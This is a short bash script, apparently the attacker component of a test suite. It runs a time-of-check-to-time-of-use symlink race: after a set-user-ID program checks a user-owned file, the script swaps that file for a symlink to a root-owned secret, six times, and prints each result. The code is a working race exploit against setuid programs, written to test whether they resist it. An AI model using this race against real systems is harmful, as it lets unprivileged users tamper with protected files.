#!/bin/bash
# wrap_attack.sh VICTIM DIR SECRET: the attacker of the wrap tests, run as
# an ordinary user who owns DIR. Six rounds: DIR/f is made a file of the
# user's, the set-user-ID VICTIM is started on it, and as soon as it says
# it has checked DIR/f, DIR/f is swapped for a symlink to the root-owned
# SECRET. Each round prints the victim's output and "status N".
set -u
victim=$1 dir=$2 secret=$3
for i in 1 2 3 4 5 6; do
	rm -f "$dir/f" "$dir/l"
	echo "the user's own file" > "$dir/f"
	exec 3< <("$victim" append "$dir/f" "written through round $i" 2>&1; echo "status $?")
	read -r line <&3
	echo "$line"
	ln -s "$secret" "$dir/l"
	mv -T "$dir/l" "$dir/f"
	cat <&3
	exec 3<&-
done
